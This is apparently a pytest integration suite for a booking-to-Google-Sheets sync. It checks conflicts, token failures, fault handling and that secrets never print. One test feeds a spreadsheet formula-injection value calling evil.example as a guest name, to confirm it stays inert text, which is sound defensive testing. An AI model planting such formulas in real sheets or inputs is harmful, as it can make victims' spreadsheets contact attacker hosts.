"""The sync as a process, between the booking system's and Google's doubles and the real dashboard."""

import contextlib
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
import urllib3
from starlette.concurrency import run_in_threadpool

from dashboard.app import create as dashboard
from dashboard.stores.sqlite import SqliteStore
from local.bookings.app import create as bookings
from local.google.app import create as google
from local.serve import running
from wire.client import Client
from wire.secret import Secret
from wire.types import State

ROOT = Path(__file__).parents[2]
TOKEN = "dashboard-token-of-the-test"
HTTP = urllib3.PoolManager()


@dataclass
class Watched:
    """An application that notes each call of the Sheets API, and lets something happen once, just before a write."""

    app: Callable
    calls: list[str] = field(default_factory=list)
    before_write: Callable[[], object] | None = None

    async def __call__(self, scope, receive, send):
        if scope["type"] == "http" and scope["path"].startswith("/v4/"):
            self.calls.append(f"{scope['method']} {scope['path'].rpartition('/')[2]}")
            if scope["method"] == "POST" and self.before_write:
                happen, self.before_write = self.before_write, None
                await run_in_threadpool(happen)
        await self.app(scope, receive, send)


@dataclass
class Town:
    """Everything the sync talks to, and the host's folders."""

    folder: Path
    google: str
    bookings: str
    dashboard: str
    watched: Watched
    sheet_id: str = ""

    def call(self, method, url, body=None, **headers):
        answer = HTTP.request(method, url, json=body, headers=headers)
        assert answer.status < 400, answer.data
        return answer.json() if answer.data else None

    def renew_token(self, **order):
        token = self.call("POST", f"{self.google}/_local/tokens", order)
        (self.folder / "secrets" / "port_sheet_token.json").write_text(json.dumps(token))
        return token

    def configure(self, **more):
        values = {
            "bookings_url": self.bookings,
            "spreadsheet_id": self.sheet_id,
            "sheets_url": f"{self.google}/v4/spreadsheets",
            "token_url": f"{self.google}/token",
            "dashboard_url": self.dashboard,
            **more,
        }
        lines = [f"{name} = {json.dumps(value)}" for name, value in values.items()]
        (self.folder / "jada.toml").write_text("[sync]\n" + "\n".join(lines))

    def start(self, *more):
        files = ["--settings", self.folder / "jada.toml", "--state", self.folder / "state"]
        env = {**os.environ, "CREDENTIALS_DIRECTORY": str(self.folder / "secrets")}
        command = [sys.executable, "-m", "sync", *files, *more]
        return subprocess.Popen(command, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    def run(self, *more):
        return ended(self.start(*more))

    def authenticate(self):
        """Run auth_ga as root would, and allow on the consent page as a person would."""
        secrets = self.folder / "secrets"
        (secrets / "client.json").write_text(json.dumps(self.call("GET", f"{self.google}/_local/client")))
        files = ["--client", secrets / "client.json", "--token", secrets / "port_sheet_token.json"]
        command = [sys.executable, "-m", "sync.auth_ga", *files, "--port", "0", "--no-browser"]
        with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, text=True) as process:
            page = next(line.strip() for line in process.stdout if line.startswith("http"))
            HTTP.request("POST", page, fields={"decision": "allow"}, encode_multipart=False)
            process.stdout.read()
        assert process.returncode == 0

    def report(self):
        return Client(self.dashboard, Secret(TOKEN)).sync_runs()[0]

    def alarms(self):
        return list(Client(self.dashboard, Secret(TOKEN)).tasks(State.NEEDS_YOU))

    def rows(self):
        """The sheet's rows by header, read as its owner would."""
        token = self.call("POST", f"{self.google}/_local/tokens", {})["token"]
        url = f"{self.google}/v4/spreadsheets/{self.sheet_id}/values/Bookings?valueRenderOption=UNFORMATTED_VALUE"
        header, *rows = self.call("GET", url, Authorization=f"Bearer {token}").get("values", [[]])
        return [dict(zip(header, row, strict=False)) for row in rows]

    def person(self, **edit):
        self.call("POST", f"{self.google}/_local/spreadsheets/{self.sheet_id}/people", edit)

    def insert_row(self, index):
        span = {"sheetId": 0, "dimension": "ROWS", "startIndex": index, "endIndex": index + 1}
        self.person(requests=[{"insertDimension": {"range": span}}])

    def book(self, booking_id, **change):
        self.call("PATCH", f"{self.bookings}/_local/bookings/{booking_id}", change)

    def fault(self, where, **fault):
        self.call("POST", f"{where}/_local/faults", fault)

    def writes(self):
        return [call for call in self.watched.calls if call.startswith("POST")]


def ended(process):
    with process:
        out, err = process.communicate()
    return subprocess.CompletedProcess(process.args, process.returncode, out, err)


@contextlib.contextmanager
def opened(folder):
    """Everything up, on what the folder holds."""
    for name in ("secrets", "state", "dashboard"):
        (folder / name).mkdir(exist_ok=True, parents=True)
    store = SqliteStore(folder / "dashboard" / "queue.db")
    watched = Watched(google(folder / "google"))
    season = bookings(folder / "bookings", count=40, first=date(2026, 11, 1))
    page = dashboard(store, Secret(TOKEN))
    with running(watched) as google_url, running(season) as bookings_url, running(page) as dashboard_url:
        yield Town(folder, google_url, bookings_url, dashboard_url, watched)
    store.close()


@pytest.fixture
def town(tmp_path):
    """A town with an empty sheet."""
    with opened(tmp_path) as town:
        _furnish(town)
        yield town


@pytest.fixture(scope="module")
def harvest(tmp_path_factory):
    """The folder of a town after its first run, and its sheet's id."""
    folder = tmp_path_factory.mktemp("harvest")
    with opened(folder) as town:
        _furnish(town)
        assert town.run().returncode == 0
    return folder, town.sheet_id


@pytest.fixture
def filled(harvest, tmp_path):
    """A town after its first run, this test's own."""
    shutil.copytree(harvest[0], tmp_path / "town")
    with opened(tmp_path / "town") as town:
        town.sheet_id = harvest[1]
        town.configure()
        yield town


def _furnish(town):
    token = town.renew_token()["token"]
    body = {"properties": {"title": "Season"}, "sheets": [{"properties": {"title": "Bookings", "sheetId": 0}}]}
    made = town.call("POST", f"{town.google}/v4/spreadsheets", body, Authorization=f"Bearer {token}")
    town.sheet_id = made["spreadsheetId"]
    secrets = town.folder / "secrets"
    (secrets / "bookings_token").write_text(town.call("GET", f"{town.bookings}/_local/token")["token"] + "\n")
    (secrets / "dashboard_token").write_text(TOKEN + "\n")
    town.configure()
    town.watched.calls.clear()


def failed(done, kind):
    """Hold a run to its one line: the failure's name, its cause and its cure."""
    (line,) = [line for line in done.stderr.splitlines() if line.startswith("[port-sheet]")]
    assert done.returncode != 0
    assert line.startswith(f"[port-sheet] {kind}: cause: ")
    assert "; cure: " in line
    return line


def test_the_first_run_fills_an_empty_sheet_and_reports_it(town):
    done = town.run()
    rows, run = town.rows(), town.report()
    assert done.returncode == 0, done.stderr
    assert (len(rows), {row["sync_state"] for row in rows}) == (40, {"live"})
    assert (run.outcome, run.rows_read, run.added, run.changed) == ("changed", 40, 40, 0)


def test_the_second_run_reads_once_and_writes_nothing(filled):
    assert filled.run().returncode == 0
    assert filled.watched.calls == ["GET values:batchGet"]
    assert filled.report().outcome == "unchanged"


def test_a_preview_tells_the_plan_and_writes_nothing(town):
    done = town.run("--dry-run")
    assert done.returncode == 0
    assert "would be: rows added: 40" in done.stdout
    assert (town.writes(), Client(town.dashboard, Secret(TOKEN)).sync_runs()) == ([], ())


def test_what_changes_in_the_source_reaches_its_row_in_one_batch(filled):
    key = filled.rows()[3]["id"]
    filled.book(key, rate="321.50", guest="Ada")
    assert filled.run().returncode == 0
    row = filled.rows()[3]
    assert (row["id"], row["rate"], row["guest"]) == (key, 321.5, "Ada")
    assert filled.writes() == [f"POST {filled.sheet_id}:batchUpdate"]


def test_a_booking_that_is_gone_is_marked_and_stays(filled):
    key = filled.rows()[5]["id"]
    filled.call("DELETE", f"{filled.bookings}/_local/bookings/{key}")
    assert filled.run().returncode == 0
    assert (filled.rows()[5]["id"], filled.rows()[5]["sync_state"]) == (key, "removed")
    assert filled.report().removed == 1


def test_an_edit_by_a_person_and_their_own_column_stay(filled):
    filled.person(range="Bookings!D3", value="Countess Ada")
    filled.person(range="Bookings!P1", value="note")
    filled.person(range="Bookings!P3", value="likes the sea")
    filled.book(filled.rows()[1]["id"], rate="99")
    assert filled.run().returncode == 0
    row = filled.rows()[1]
    assert (row["guest"], row["note"], row["rate"]) == ("Countess Ada", "likes the sea", 99)


def test_an_edit_is_undone_where_the_setting_says_restore(filled):
    before = filled.rows()
    filled.configure(edits="restore")
    filled.person(range="Bookings!D3", value="Countess Ada")
    assert filled.run().returncode == 0
    assert filled.rows() == before


def test_a_conflict_tells_its_loser(filled):
    key = filled.rows()[0]["id"]
    filled.person(range="Bookings!N2", value="1")
    filled.book(key, rate="2")
    done = filled.run()
    assert f"conflict: booking {key}, rate: source 2, sheet 1; the source's was written" in done.stdout
    assert (filled.rows()[0]["rate"], filled.report().conflicts) == (2, 1)


def test_a_day_that_a_person_types_anew_is_the_same_day(filled):
    filled.person(range="Bookings!E2", value=filled.rows()[0]["arrival"])
    assert isinstance(filled.rows()[0]["arrival"], int)  # Sheets made it a date
    assert "edited by a person" not in filled.run().stdout


def test_people_may_move_rows_and_columns(filled):
    filled.insert_row(1)
    span = {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 3}
    filled.person(requests=[{"insertDimension": {"range": span}}])
    filled.book(filled.rows()[1]["id"], rate="7.25")
    assert filled.run().returncode == 0
    assert [row.get("rate") for row in filled.rows()[:2]] == [None, 7.25]


def test_a_row_inserted_between_our_reading_and_our_writing_damages_nothing(filled):
    before = filled.rows()
    filled.book(before[5]["id"], rate="555", guest="Moved")
    filled.watched.before_write = lambda: filled.insert_row(2)
    assert filled.run().returncode == 0
    wanted = [*before[:5], {**before[5], "rate": 555, "guest": "Moved"}, *before[6:]]
    assert [row for row in filled.rows() if row] == wanted


def test_a_guest_whose_name_looks_like_a_formula_stays_text(filled):
    filled.book(filled.rows()[0]["id"], guest='=IMPORTXML("http://evil.example", "//a")')
    assert filled.run().returncode == 0
    assert filled.rows()[0]["guest"].startswith("=IMPORTXML(")
    assert filled.run().returncode == 0
    assert filled.report().outcome == "unchanged"


def test_a_copied_row_is_marked_as_a_duplicate(filled):
    first = filled.rows()[0]
    for column, value in zip("ABC", (first["id"], first["hotel"], first["room_type"]), strict=True):
        filled.person(range=f"Bookings!{column}42", value=value)
    assert filled.run().returncode == 0
    assert [row["sync_state"] for row in filled.rows() if row["id"] == first["id"]] == ["live", "duplicate"]


def test_a_revoked_token_is_told_with_cause_and_cure_everywhere(filled):
    filled.call("POST", f"{filled.google}/_local/tokens/revoke")
    line = failed(filled.run(), "token_dead")
    run = filled.report()
    assert "auth_ga.py" in line
    assert "it last worked at" in line
    assert (run.outcome, run.error) == ("failed", "token_dead")
    assert run.cause in line
    assert run.cure in line


def test_a_token_without_the_scope_is_told_before_any_call(filled):
    filled.renew_token(scopes=["https://www.googleapis.com/auth/drive.file"])
    assert "drive.file" in failed(filled.run(), "token_scope")
    assert filled.watched.calls == []


def test_after_the_consent_of_auth_ga_the_next_run_converges_and_the_alarm_ends(filled):
    filled.book("J00003", rate="77")
    filled.call("POST", f"{filled.google}/_local/tokens/revoke")
    failed(filled.run(), "token_dead")
    assert [task.waiting.kind for task in filled.alarms()] == ["alarm"]
    filled.authenticate()
    assert filled.run().returncode == 0
    (row,) = [row for row in filled.rows() if row["id"] == "J00003"]
    assert (row["rate"], filled.alarms()) == (77, [])


def test_a_token_that_will_die_is_announced(filled):
    filled.renew_token(testing=True)
    assert filled.run().returncode == 0
    dies_at = datetime.fromisoformat(filled.report().token_dies_at)
    assert timedelta(days=6) < dies_at - datetime.now(UTC) < timedelta(days=7)


@pytest.mark.parametrize("after", [True, False])
def test_an_ambiguous_answer_to_a_write_is_followed_by_reading(filled, after):
    filled.book(filled.rows()[0]["id"], rate="88")
    filled.watched.calls.clear()
    fault = {"on": "sheets", "error": "UNAVAILABLE", "times": 1, "after": after}
    filled.watched.before_write = lambda: filled.fault(filled.google, **fault)
    assert filled.run().returncode == 0
    kinds = [call.rpartition(":")[2] for call in filled.watched.calls if ":" in call]
    again = [] if after else ["batchUpdate", "batchGet"]
    assert kinds == ["batchGet", "batchUpdate", "batchGet", *again]
    assert filled.rows()[0]["rate"] == 88


@pytest.mark.parametrize(
    ("fault", "kind"),
    [
        ({"on": "token", "error": "invalid_client"}, "client_invalid"),
        ({"on": "token", "error": "deleted_client"}, "client_deleted"),
        ({"on": "token", "error": "invalid_rapt"}, "reauth_demanded"),
        ({"on": "token", "error": "admin_policy_enforced"}, "admin_policy"),
        ({"on": "token", "html": 502}, "token_endpoint_down"),
        ({"on": "sheets", "error": "PERMISSION_DENIED"}, "sheet_forbidden"),
        ({"on": "sheets", "error": "SERVICE_DISABLED"}, "sheets_api_disabled"),
        ({"on": "sheets", "error": "FAILED_PRECONDITION"}, "sheet_is_excel"),
    ],
)
def test_googles_refusals_are_told_by_name(filled, fault, kind):
    filled.fault(filled.google, **fault)
    failed(filled.run(), kind)
    assert (filled.report().error, filled.writes()) == (kind, [])


def test_a_spreadsheet_or_a_tab_that_is_not_there_is_told_by_name(filled):
    filled.configure(worksheet="Buchungen")
    failed(filled.run(), "worksheet_missing")
    filled.configure(spreadsheet_id="nowhere")
    failed(filled.run(), "sheet_missing")


def test_a_renamed_header_of_ours_is_refused_by_name(filled):
    filled.person(range="Bookings!N1", value="price")
    assert "rate" in failed(filled.run(), "sheet_header")
    assert filled.writes() == []


def test_a_booking_system_that_is_down_is_told_and_the_next_run_catches_up(filled):
    filled.fault(filled.bookings, status=500)
    failed(filled.run(), "bookings_down")
    filled.call("DELETE", f"{filled.bookings}/_local/faults")
    assert filled.run().returncode == 0


def test_a_suddenly_empty_source_is_refused(filled):
    before = filled.rows()
    filled.fault(filled.bookings, empty=True)
    failed(filled.run(), "source_empty")
    assert filled.rows() == before


def test_an_empty_source_is_refused_even_when_the_memory_is_lost(filled):
    (filled.folder / "state" / "history.sqlite").unlink()
    filled.fault(filled.bookings, empty=True)
    failed(filled.run(), "source_empty")


def test_a_dashboard_that_is_down_does_not_fail_a_good_run(filled):
    filled.configure(dashboard_url="http://127.0.0.1:9")
    done = filled.run()
    assert done.returncode == 0
    assert "the dashboard did not take this run's report" in done.stdout


def test_a_token_that_is_taken_away_in_the_middle_of_a_run_is_told(filled):
    filled.book("J00001", rate="9")
    filled.watched.before_write = lambda: filled.call("POST", f"{filled.google}/_local/tokens/revoke")
    failed(filled.run(), "token_dead")


def test_a_run_that_is_stopped_says_so_and_when_the_last_good_one_was(filled):
    filled.fault(filled.google, on="sheets", hang_s=30)
    process = filled.start()
    deadline = time.monotonic() + 30
    while not filled.watched.calls and time.monotonic() < deadline:
        time.sleep(0.05)
    process.terminate()
    done = ended(process)
    failed(done, "stopped")
    assert "the sheet was last proven to be in step at 20" in done.stdout
    assert filled.report().error == "stopped"


def test_settings_that_are_wrong_are_told_by_the_name_of_their_key(town):
    town.configure(edits="drop")
    assert "sync.edits" in failed(town.run(), "settings_wrong")


def test_a_missing_secret_is_told_by_its_name(town):
    (town.folder / "secrets" / "bookings_token").unlink()
    assert "bookings_token" in failed(town.run(), "credential_missing")
    assert town.report().error == "credential_missing"


def test_no_secret_is_ever_printed(filled):
    secrets = [path.read_text() for path in (filled.folder / "secrets").iterdir()]
    token = json.loads(next(text for text in secrets if text.startswith("{")))
    filled.call("POST", f"{filled.google}/_local/tokens/revoke")
    said = "".join((done := filled.run()).stdout + done.stderr for _ in range(2))
    for secret in (token["refresh_token"], token["client_secret"], TOKEN):
        assert secret not in said
